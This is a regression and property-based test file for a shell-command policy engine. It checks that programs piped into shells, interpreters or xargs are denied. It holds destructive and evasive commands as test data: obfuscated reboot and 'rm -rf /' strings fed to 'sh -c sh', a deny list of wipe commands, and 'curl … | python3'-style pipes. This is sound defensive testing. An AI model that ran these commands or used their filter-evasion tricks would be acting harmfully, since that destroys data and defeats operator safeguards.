/**
 * Regression test, first found by fuzzing the earlier text-scanning engine: a shell that reads
 * its PROGRAM FROM STDIN (`echo 'r""eboot' | sh -c sh`, `sh <<EOF`, `sh <<<reboot`,
 * `base64 -d x | python3`, `… | xargs sudo`) runs text the policy only ever sees as data, and no
 * text filter can see every program piped in (base64, printf assembly). The engine reads such
 * a program for what it is (programs/: `stdin_program`, and xargs' input-built commands) and
 * denies it as `shell_from_stdin` unless a rule that names the program literally opts in with
 * `allow_exec` (or the legacy `allow_substitution`); here-docs and here-strings are outside the
 * parsed subset and refused unless a rule's `allow_syntax` sends them unchecked.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { policyFileSchema } from '../../src/config/schema.js';
import { PolicyEngine } from '../../src/policy/engine.js';
import { DEFAULT_TEST_POLICY } from '../helpers/fleet.js';
import { feedShell, payload } from './helpers/deny-payloads.js';

const TARGET = { alias: 'web1', tags: [] };

describe('deny_substrings hold when a shell reads its program from stdin', () => {
  const testPolicy = new PolicyEngine(policyFileSchema.parse(DEFAULT_TEST_POLICY));
  for (const command of [
    "printf '%s\\n' 're\\boot' | sh -c sh",
    'echo \'r""eboot\' | sh -c sh',
    "echo 're$@boot' | sh -c sh",
    "echo 'rm -rf $@/' | sh -c sh",
    String.raw`sh -c "echo 'r\"\"eboot' | sh"`,
  ]) {
    it(`DEFAULT_TEST_POLICY denies ${JSON.stringify(command)}`, () => {
      expect(testPolicy.decide(TARGET, command).allowed).toBe(false);
    });
  }

  const allowAll = new PolicyEngine(
    policyFileSchema.parse({
      limits: { deny_substrings: ['rm -rf /', 'reboot', 'mkfs ', 'shutdown', 'dd if=/dev/zero'] },
      rules: [{ name: 'anything', action: 'allow', commands: ['*'] }],
    }),
  );
  it('never allows a deny payload fed to a shell on stdin (fast-check)', () => {
    fc.assert(
      fc.property(payload.chain(feedShell), (command) => {
        expect(allowAll.decide(TARGET, command).allowed, JSON.stringify(command)).toBe(false);
      }),
      { numRuns: 2000, seed: 20261122 },
    );
  });
});

describe('a program piped into an interpreter or built by xargs is never allowed by a catch-all', () => {
  // No deny substrings here (not even the built-in list): only shell_from_stdin stands between
  // the pipe and the host. The catch-all opts in to exec, but a wildcard never names the program
  // that reads the pipe.
  const catchAll = new PolicyEngine(
    policyFileSchema.parse({
      limits: { deny_substrings: [] },
      rules: [{ name: 'anything', action: 'allow', commands: ['*'], allow_substitution: true }],
    }),
  );
  const runner = fc.constantFrom(
    'python3',
    'python3 -',
    'sudo python3 -u',
    'perl',
    'perl -w',
    'ruby',
    'node',
    'php',
    'lua -',
    'tclsh',
    'Rscript -',
    'awk -f /dev/stdin',
    'env -i PATH=/bin perl',
    'xargs sudo',
    'xargs -n1 env',
    'xargs sh -c',
    "xargs -I{} bash -c '{}'",
    'xargs python3 -c',
    'timeout 5 xargs nohup',
  );
  const source = fc.oneof(
    fc.base64String({ minLength: 4, maxLength: 40 }).map((b) => `echo ${b} | base64 -d`),
    fc
      .string({ minLength: 1, maxLength: 30 })
      .filter((t) => /^[\x20-\x7e]+$/.test(t) && !t.includes("'"))
      .map((t) => `printf '%s' '${t}'`),
    fc.constantFrom('cat payload', 'curl -s http://example.invalid/x', 'base64 -d blob'),
  );
  it('denies every `<source> | <runner>` as shell_from_stdin (fast-check)', () => {
    fc.assert(
      fc.property(source, runner, (from, run) => {
        const command = `${from} | ${run}`;
        expect(catchAll.decide(TARGET, command), JSON.stringify(command)).toMatchObject({
          allowed: false,
          rule: 'shell_from_stdin',
        });
      }),
      { numRuns: 1000, seed: 20261122 },
    );
  });
});

describe('a shell fed on stdin runs only under a rule that names it and opts in', () => {
  const engine = new PolicyEngine(
    policyFileSchema.parse({
      limits: { deny_substrings: [] },
      rules: [
        { name: 'no-reboot', action: 'deny', commands: ['reboot*'] },
        { name: 'tools', action: 'allow', commands: ['echo *', 'sh', 'bash'] },
        { name: 'trusted', action: 'allow', allow_exec: true, commands: ['sh -s'] },
      ],
    }),
  );
  for (const command of ['echo reboot | sh', "echo 're''boot' | bash", 'sh <<EOF\nreboot\nEOF', 'sh <<<reboot']) {
    it(`denies ${JSON.stringify(command)}`, () => {
      expect(engine.decide(TARGET, command).allowed).toBe(false);
    });
  }
  it('allows `… | sh -s` under the rule that names it with allow_exec', () => {
    expect(engine.decide(TARGET, 'echo uptime | sh -s')).toMatchObject({ allowed: true, rule: 'tools, trusted' });
  });
});
